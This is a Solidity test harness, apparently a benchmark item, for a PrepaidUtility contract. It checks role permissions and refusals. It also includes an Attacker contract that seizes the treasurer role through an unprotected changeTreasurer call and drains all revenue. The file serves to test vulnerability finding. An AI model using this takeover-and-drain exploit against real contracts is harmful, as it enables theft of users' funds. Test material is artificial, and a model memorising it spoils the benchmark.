pragma solidity 0.4.26;

import "./PrepaidUtility.sol";

// assay-canary-3778f71a-22b5-40be-958a-d2ec66b8618d

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
    function expectRevert() external;
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    PrepaidUtility internal utility;
    Attacker internal mallory;
    address internal constant TINA = address(0x7111DA);
    address internal constant READER = address(0x5245AD);
    address internal constant ALICE = address(0xFA53);
    address internal constant BOB = address(0x311157);

    function setUp() public {
        utility = new PrepaidUtility();
        utility.setTreasurer(TINA);
        utility.setMeterReader(READER);
        utility.register(ALICE, 1000);
        utility.register(BOB, 0);
        vm.prank(TINA);
        utility.setPrice(1 finney);
        vm.deal(ALICE, 20 ether);
        vm.deal(BOB, 10 ether);
        vm.prank(ALICE);
        utility.deposit.value(20 ether)();
        vm.prank(BOB);
        utility.deposit.value(10 ether)();
        vm.prank(READER);
        utility.recordReading(ALICE, 13000);
        mallory = new Attacker(utility);
    }

    function test_Regular() public {
        require(utility.owner() == address(this) && utility.treasurer() == TINA, "roles");
        require(utility.revenue() == 12 ether, "twelve thousand units");

        // the register is the owner's, the money the treasurer's
        vm.prank(TINA);
        require(!address(utility).call(abi.encodeWithSelector(utility.register.selector, TINA, uint64(0))), "register");
        require(!address(utility).call(abi.encodeWithSelector(utility.setPrice.selector, 1)), "price");
        vm.prank(BOB);
        require(!address(utility).call(abi.encodeWithSelector(utility.setTreasurer.selector, BOB)), "treasurer");

        vm.prank(TINA);
        utility.payExpense(address(0x9A50), 5 ether, "new meters");
        require(address(0x9A50).balance == 5 ether && utility.revenue() == 7 ether, "expense");

        vm.prank(READER);
        utility.recordReading(BOB, 99999);
        require(utility.revenue() == 17 ether, "not beyond the credit");
        vm.prank(ALICE);
        utility.refund();
        require(ALICE.balance == 8 ether, "refunded");

        vm.prank(ALICE);
        require(address(utility).call.value(1 ether)());
        require(balanceOf(ALICE) == 1 ether, "plain ether");
        utility.transferOwnership(READER);
        vm.prank(READER);
        utility.acceptOwnership();
        require(utility.owner() == READER, "handed over");
    }

    function balanceOf(address who) internal view returns (uint128 credit) {
        (, , credit) = utility.customers(who);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts.
    function refuses(address who) internal {
        vm.prank(who);
        vm.expectRevert();
    }

    /// Each role does its own work.
    function test_RefusesStrangers() public {
        refuses(BOB);
        utility.transferOwnership(BOB);
        utility.transferOwnership(READER);
        refuses(BOB);
        utility.acceptOwnership();
        refuses(BOB);
        utility.setMeterReader(BOB);
        refuses(BOB);
        utility.recordReading(ALICE, 14000);
        refuses(BOB);
        utility.payExpense(BOB, 1, "");
    }

    /// The roles stay apart, and are held by somebody.
    function test_RefusesRoles() public {
        vm.expectRevert();
        utility.setMeterReader(TINA);
        vm.expectRevert();
        utility.setTreasurer(address(0));
        vm.expectRevert();
        utility.setTreasurer(READER);
    }

    /// Customers once, prices within bounds, readings that rise, revenue that is there.
    function test_RefusesNumbers() public {
        vm.expectRevert();
        utility.register(ALICE, 5);
        refuses(TINA);
        utility.setPrice(0);
        refuses(TINA);
        utility.setPrice(1 finney + 1);
        vm.deal(this, 1 ether);
        vm.expectRevert();
        utility.deposit.value(1 ether)();
        refuses(READER);
        utility.recordReading(address(0xBEE), 5);
        refuses(READER);
        utility.recordReading(ALICE, 12999);
        refuses(TINA);
        utility.payExpense(address(0x9A50), 12 ether + 1, "");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(utility.treasurer() == address(mallory), "treasurer unchanged");
        require(address(mallory).balance == 12 ether && utility.revenue() == 0, "revenue unchanged");
    }

    function target() public view returns (address) {
        return address(utility);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

interface Open {
    function changeTreasurer(address _treasurer) external;
}

contract Attacker {
    PrepaidUtility internal utility;

    constructor(PrepaidUtility _utility) public {
        utility = _utility;
    }

    function() external payable {}

    function run() external {
        Open(utility).changeTreasurer(this);
        utility.payExpense(address(this), utility.revenue(), "");
    }
}
